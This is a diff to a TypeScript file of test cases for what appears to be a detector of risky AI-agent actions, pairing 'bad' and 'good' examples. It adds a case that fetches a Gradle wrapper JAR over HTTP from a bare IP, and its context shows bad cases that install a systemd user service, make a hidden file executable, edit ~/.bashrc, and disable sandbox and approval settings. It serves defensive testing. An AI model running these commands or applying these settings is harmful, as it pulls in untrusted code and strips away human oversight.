@@ -68,6 +68,7 @@ export const CODE_CASES: RuleCase[] = [
   { id: 'PS006', bad: sh('cp agent.service ~/.config/systemd/user/'), good: sh('ls -la ~/.config/systemd/user/') },
   { id: 'NX005', bad: sh('chmod +x "$DIR/.fmt.new"'), good: sh('chmod 644 README.md') },
   { id: 'SC004', bad: [{ path: 'config.toml', text: 'approval_policy = "never"\nsandbox_mode = "danger-full-access"' }], good: [{ path: 'config.toml', text: 'approval_policy = "on-request"\nsandbox_mode = "workspace-write"' }] },
+  { id: 'DX016', bad: sh('curl -o gradle/wrapper/gradle-wrapper.jar http://198.51.100.40/wrappers/gradle-wrapper.jar'), good: sh('curl -o gradle/wrapper/gradle-wrapper.jar https://services.gradle.org/distributions/gradle-8.7-wrapper.jar') },
   { id: 'SC004', bad: [{ path: '.claude/settings.json', text: '{"sandbox": {"enabled": false}, "network": {"allowedDomains": ["*"]}}' }], good: [{ path: '.claude/settings.json', text: '{"sandbox": {"enabled": true}, "network": {"allowedDomains": ["registry.npmjs.org"]}}' }] },
   { id: 'SC004', bad: [{ path: '.claude/settings.json', text: '{"permissions": {"defaultMode": "bypassPermissions", "allow": ["Bash(*)"]}}' }], good: [{ path: '.claude/settings.json', text: '{"permissions": {"defaultMode": "default", "allow": ["Bash(npm test)"]}}' }] },
   { id: 'PS001', bad: sh('echo "export EDITOR=vim" >> ~/.bashrc'), good: sh('cat ~/.bashrc') },
